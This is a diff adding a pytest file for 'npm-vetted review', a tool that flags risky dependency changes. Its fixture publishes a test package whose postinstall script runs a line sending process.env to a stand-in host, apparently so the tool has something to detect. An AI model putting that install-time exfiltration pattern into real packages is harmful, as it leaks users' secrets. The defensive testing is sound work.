@@ -1,0 +1,117 @@
+"""``npm-vetted review``: what a change brings, with packages of a real registry."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from npm_vetted.cli import main
+from tests.review.signals.stand_ins import PLAIN
+from tests.support.git_repo import GitRepo
+from tests.support.verdaccio import Verdaccio
+
+NAMES = ("rv-quiet", "rv-loud", "rv-part")
+
+
+@pytest.fixture(scope="module")
+def published(verdaccio: Verdaccio) -> Verdaccio:
+    files = {path: text for path, text in PLAIN.items() if path != "package.json"}
+    loud = {
+        **files,
+        "hello.js": "fetch('https://collector.invalid/', {body: JSON.stringify(process.env)});\n",
+    }
+    verdaccio.publish("rv-quiet", "1.0.0", files=files)
+    verdaccio.publish("rv-quiet", "1.0.1", files=files)
+    verdaccio.publish("rv-part", "1.0.0", files=files)
+    verdaccio.publish("rv-loud", "1.0.0", files=files)
+    verdaccio.publish(
+        "rv-loud",
+        "1.0.1",
+        files=loud,
+        scripts={"postinstall": "node hello.js"},
+        dependencies={"rv-part": "1.0.0"},
+    )
+    return verdaccio
+
+
+def lockfile(registry: Verdaccio, versions: dict[str, str]) -> str:
+    """A lockfile of npm for some published versions; rv-part is what rv-loud needs."""
+    packages: dict[str, Any] = {
+        "": {"name": "app", "dependencies": {n: v for n, v in versions.items() if n != "rv-part"}}
+    }
+    for name, version in versions.items():
+        found = registry.stored(name)["versions"][version]
+        packages[f"node_modules/{name}"] = {
+            "version": version,
+            "resolved": found["dist"]["tarball"],
+            "integrity": found["dist"]["integrity"],
+            **({"dependencies": found["dependencies"]} if found.get("dependencies") else {}),
+        }
+    return json.dumps(
+        {"name": "app", "lockfileVersion": 3, "requires": True, "packages": packages}, indent=2
+    )
+
+
+def write(repo: GitRepo, registry: Verdaccio, versions: dict[str, str]) -> None:
+    direct = {name: version for name, version in versions.items() if name != "rv-part"}
+    files = {
+        "package.json": json.dumps({"name": "app", "private": True, "dependencies": direct}),
+        "package-lock.json": lockfile(registry, versions),
+        ".npmrc": f"registry={registry.url}\n",
+    }
+    for path, text in files.items():
+        repo.write(path, text)
+
+
+@pytest.fixture
+def repo(tmp_path: Path, published: Verdaccio) -> GitRepo:
+    found = GitRepo(tmp_path / "app")
+    write(found, published, {"rv-quiet": "1.0.0", "rv-loud": "1.0.0"})
+    found.commit("first")
+    write(found, published, {"rv-quiet": "1.0.1", "rv-loud": "1.0.1", "rv-part": "1.0.0"})
+    return found
+
+
+def review(repo: GitRepo, capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str]:
+    status = main(["-C", str(repo.path), "review", *arguments])
+    seen = capsys.readouterr()
+    assert status == 0, seen.err
+    return status, seen.out
+
+
+@pytest.mark.parametrize("staged", [False, True])
+def test_the_package_that_newly_acts_comes_first(
+    repo: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, staged: bool
+) -> None:
+    monkeypatch.chdir(repo.path)
+    if staged:
+        repo.add()
+    status, out = review(repo, capsys, "--format", "json")
+    assert out, status
+    found = json.loads(out)
+    assert (status, found["state"]) == (0, "what is staged" if staged else "the working tree")
+    assert found["counts"] == {"new": 1, "upgraded": 2}
+    first, *others = found["packages"]
+    assert (first["package"], first["from"], first["attention"]) == ("rv-loud", "1.0.0", True)
+    codes = {reason["code"] for reason in first["reasons"]}
+    assert {"install-script-new", "install-code-acts", "pair:send-secrets"} <= codes
+    brought = {each["package"]: each["brought-by"] for each in others}
+    assert brought["rv-part"] == ["rv-loud@1.0.1"]
+
+
+@pytest.mark.parametrize("form", ["text", "markdown", "html"])
+def test_each_format_names_the_reasons_with_their_places(
+    repo: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, form: str
+) -> None:
+    monkeypatch.chdir(repo.path)
+    repo.commit("second")
+    status, out = review(repo, capsys, "--from-ref", "HEAD~1", "--format", form)
+    assert status == 0
+    plain = out.replace("\\", "")
+    assert "HEAD~1..HEAD brings 3 packages: 1 new, 2 upgraded" in plain
+    assert "hello.js:1" in plain
+    assert "rv-loud" in plain
+    assert "<script" not in out
